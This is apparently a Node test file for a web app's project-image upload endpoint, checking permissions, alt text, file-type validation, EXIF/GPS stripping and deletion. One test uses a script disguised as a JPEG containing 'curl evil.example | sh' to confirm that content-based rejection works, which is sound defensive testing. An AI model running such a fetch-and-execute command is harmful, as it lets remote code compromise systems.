import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { PNG } from 'pngjs';
import { createTestApp, type TestApp } from '../../testing/harness.js';
import { createStaff, type StaffSession } from '../../testing/staff.js';
import { jpegWithGps, multipart } from '../../testing/uploads.js';

type Problem = { code: string; errors?: { field: string }[] };
interface Image {
  id: number;
  alt: string;
  width: number;
  height: number;
  url: string;
  thumbUrl: string;
}

describe('project images', () => {
  let t: TestApp;
  let editor: StaffSession;
  let viewer: StaffSession;
  let projectId: number;

  before(async () => {
    t = await createTestApp();
    [editor, viewer] = await Promise.all([createStaff(t, 'editor', ['projects']), createStaff(t, 'viewer')]);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/projects',
      headers: editor.headers,
      payload: { title: `Bilder ${process.pid}-${Date.now().toString(36)}`, status: 'planned', fields: ['smart-living'] },
    });
    assert.equal(res.statusCode, 201, res.body);
    projectId = res.json<{ id: number }>().id;
  });
  after(() => t.close());

  const upload = (
    file: { filename: string; type: string; data: Buffer } | null,
    alt: string | null,
    headers: Record<string, string> | null = editor.headers,
    id = projectId,
  ) => {
    const body = multipart(alt === null ? {} : { alt }, file ? [{ name: 'file', ...file }] : []);
    return t.app.inject({
      method: 'POST',
      url: `/api/projects/${id}/images`,
      payload: body.payload,
      headers: { ...(headers ?? {}), ...body.headers },
    });
  };
  const jpegFile = () => ({ filename: 'deutsches-eck.jpg', type: 'image/jpeg', data: jpegWithGps() });

  test('uploading: unauthenticated, forbidden, missing alt text or file, unknown project', async () => {
    assert.equal((await upload(jpegFile(), 'Deutsches Eck', null)).statusCode, 401);
    assert.equal((await upload(jpegFile(), 'Deutsches Eck', viewer.headers)).statusCode, 403);
    const noAlt = await upload(jpegFile(), '  ');
    assert.equal(noAlt.statusCode, 400);
    assert.equal(noAlt.json<Problem>().code, 'PROJECTS_IMAGE_ALT_REQUIRED');
    assert.equal(noAlt.json<Problem>().errors![0]!.field, 'body.alt');
    const noFile = await upload(null, 'Deutsches Eck');
    assert.equal(noFile.json<Problem>().code, 'PROJECTS_IMAGE_REQUIRED');
    assert.equal((await upload(jpegFile(), 'Deutsches Eck', editor.headers, 999_999)).statusCode, 404);
  });

  test('a script renamed to .jpg is rejected by its content and nothing is stored', async () => {
    const script = { filename: 'foto.jpg', type: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') };
    const res = await upload(script, 'Ein Foto');
    assert.equal(res.statusCode, 400);
    assert.equal(res.json<Problem>().code, 'PROJECTS_IMAGE_INVALID');
    assert.equal(res.json<Problem>().errors![0]!.field, 'body.file');
    const project = (await t.app.inject({ url: `/api/projects/${projectId}` })).json<{ images: Image[] }>();
    assert.equal(project.images.length, 0);
  });

  test('WebP is not accepted for project images (JPEG and PNG only)', async () => {
    const webp = Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WEBPVP8 '), Buffer.alloc(16)]);
    const res = await upload({ filename: 'bild.webp', type: 'image/webp', data: webp }, 'Ein Bild');
    assert.equal(res.json<Problem>().code, 'PROJECTS_IMAGE_INVALID');
  });

  test('a valid JPEG is stored re-encoded without EXIF, with a thumbnail, shown on the project and in its history', async () => {
    const input = jpegWithGps();
    assert.ok(input.includes(Buffer.from('Exif')) && input.includes(Buffer.from('GPS 50.3597N')));
    const res = await upload({ filename: 'IMG_0001.JPG', type: 'image/jpeg', data: input }, 'Glasfaser-Verteiler in Metternich');
    assert.equal(res.statusCode, 201, res.body);
    const image = res.json<Image>();
    assert.deepEqual([image.width, image.height, image.alt], [40, 30, 'Glasfaser-Verteiler in Metternich']);

    for (const url of [image.url, image.thumbUrl]) {
      const file = await t.app.inject({ url });
      assert.equal(file.statusCode, 200);
      assert.equal(file.headers['content-type'], 'image/jpeg');
      const bytes = file.rawPayload;
      assert.deepEqual([...bytes.subarray(0, 3)], [0xff, 0xd8, 0xff]);
      assert.ok(!bytes.includes(Buffer.from('Exif')) && !bytes.includes(Buffer.from('GPS')), 'no EXIF, no GPS');
      assert.ok(!bytes.includes(Buffer.from([0xff, 0xe1])), 'no APP1 segment');
    }

    const project = (await t.app.inject({ url: `/api/projects/${projectId}` })).json<{ images: Image[] }>();
    assert.deepEqual(
      project.images.map((i) => i.alt),
      ['Glasfaser-Verteiler in Metternich'],
    );
    const history = (await t.app.inject({ url: `/api/projects/${projectId}/history` })).json<{ items: { change: string }[] }>();
    assert.equal(history.items[0]!.change, 'image');
  });

  test('a PNG is accepted; removing an image: forbidden, unknown, success', async () => {
    const png = new PNG({ width: 8, height: 4 });
    png.data.fill(120);
    const res = await upload({ filename: 'plan.png', type: 'image/png', data: PNG.sync.write(png) }, 'Lageplan');
    assert.equal(res.statusCode, 201, res.body);
    const image = res.json<Image>();
    assert.equal((await t.app.inject({ url: image.url })).headers['content-type'], 'image/png');

    const remove = (headers: Record<string, string>, id = image.id) =>
      t.app.inject({ method: 'DELETE', url: `/api/projects/${projectId}/images/${id}`, headers });
    assert.equal((await remove(viewer.headers)).statusCode, 403);
    assert.equal((await remove(editor.headers, 999_999)).statusCode, 404);
    assert.equal((await remove(editor.headers)).statusCode, 204);
    assert.equal((await t.app.inject({ url: image.url })).statusCode, 404);
  });
});
